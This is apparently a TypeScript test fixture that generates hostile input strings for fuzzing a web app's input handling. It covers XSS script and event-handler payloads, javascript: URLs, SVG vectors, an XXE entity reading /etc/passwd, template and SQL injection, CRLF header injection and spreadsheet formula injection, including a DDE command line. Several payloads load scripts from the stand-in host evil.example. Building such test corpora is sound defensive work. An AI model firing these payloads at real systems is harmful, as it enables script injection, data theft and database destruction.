import { createChance } from '../../../bench/traffic.ts';

/** Strings that try to run a script, a formula, a template or a terminal command. */

const RUN = 'ran(1)';

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</td></tr></table><script>${RUN}</script>`,
  `<!--><script>${RUN}</script-->`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<noscript><p title="</noscript><img src=x onerror=ran(1)>">',
];
const HANDLERS = [
  'img src=x onerror',
  'svg onload',
  'svg/onload',
  'body onload',
  'details open ontoggle',
  'input autofocus onfocus',
  'marquee onstart',
  'video src=x onerror',
  'iframe srcdoc="<script>parent.ran(1)</script>" onload',
  'object data=x onerror',
  'a href=# onclick',
  'div onmouseover',
  'dialog open onclose',
  'select autofocus onfocus',
  'button popovertarget=x onbeforetoggle',
].flatMap((tag) => [`<${tag}=${RUN}>`, `"><${tag}="${RUN}">`, `'><${tag}='${RUN}'>`, `\`><${tag}=${RUN}//`]);
const ATTRIBUTES = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" onfocus="${RUN}" autofocus="`,
  `" style="background:url(https://evil.example/)`,
  `" formaction="javascript:${RUN}`,
  `" srcset="https://evil.example/x 1x`,
  `x onerror=${RUN} y=`,
  `"\nonclick="${RUN}`,
  `\u00a0onclick=${RUN}\u00a0`,
];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://shop.example/%0a${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=`,
  `vbscript:${RUN}`,
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https://shop.example@evil.example/',
  'blob:https://evil.example/1',
];
const SVG = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}>`,
  `</text></svg><script>${RUN}</script>`,
  `</title></svg><img src=x onerror=${RUN}>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`,
];
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{%if 1%}${RUN}{%endif%}`,
  '{{7*7}}',
  '$(ran)',
  '`ran`',
  '$&$1$`',
  '<!--deferred-->',
  '<!--#exec cmd="ran"-->',
  '__proto__',
  'constructor',
  'toString',
  '%s%n%x',
];
const DIRECTIONS = [
  '\u202egpj.exe',
  '\u2066\u202eran\u2069',
  '\u200f\u200e\u061c',
  '\u200b\u200c\u200d\ufeff',
  '\u{e0041}\u{e0042}',
];
const CONTROLS = [
  '\u0000',
  `a\u0000<script>${RUN}</script>`,
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b[2J\u001b[H',
  '\b\b\b\u007f',
  '\r\nSet-Cookie: a=b',
  '\r\n\r\n<script>ran(1)</script>',
  'event: rows\ndata: []\n\n',
  '\u2028ran(1)\u2029',
  '\u0085\u009b31m',
  '\ud800',
  '\udc00\ud800',
  `\ud83d<script>${RUN}</script>`,
  '\uffff\ufffe',
];
const FORMULAS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  ' =',
  '";=',
  ',=',
].flatMap((start) => [
  `${start}1+1`,
  `${start}HYPERLINK("https://evil.example","x")`,
  `${start}cmd|'/C calc'!A0`,
]);
const QUERIES = [
  '" OR 1=1 --',
  "'; DROP TABLE entries; --",
  'status:4xx',
  '-url:*',
  '"',
  '\\',
  '*',
  '%',
  '_',
  'a,b,"c',
  '../../etc/passwd',
  '%00',
  '%0d%0a',
];
const LONG = [
  'a'.repeat(3000),
  '<'.repeat(1500),
  '"'.repeat(1500),
  '&lt;'.repeat(500),
  '\u202e'.repeat(300),
  '\ud800'.repeat(300),
];

const PIECES = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...SVG,
  ...TEMPLATES,
  ...DIRECTIONS,
  ...CONTROLS,
  ...FORMULAS,
  ...QUERIES,
];

/** `count` distinct strings: each piece, the long ones, then random combinations of pieces. */
export function hostileStrings(count: number): string[] {
  const chance = createChance(2026);
  const found = new Set([...PIECES, ...LONG].slice(0, count));
  while (found.size < count) {
    const pieces = Array.from({ length: 1 + chance.below(3) }, () =>
      encoded(chance.pick(PIECES), chance.below(6)),
    );
    found.add(pieces.join(chance.pick(['', ' ', '"', "'", '>', '\n', '\u0000', ','])).slice(0, 4000));
  }
  return [...found];
}

function encoded(piece: string, variant: number): string {
  if (variant === 0) return piece.toUpperCase();
  if (variant === 1) return encodeURI(piece.toWellFormed());
  if (variant === 2) return piece.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
  if (variant === 3) return `${piece}${piece}`;
  return piece;
}
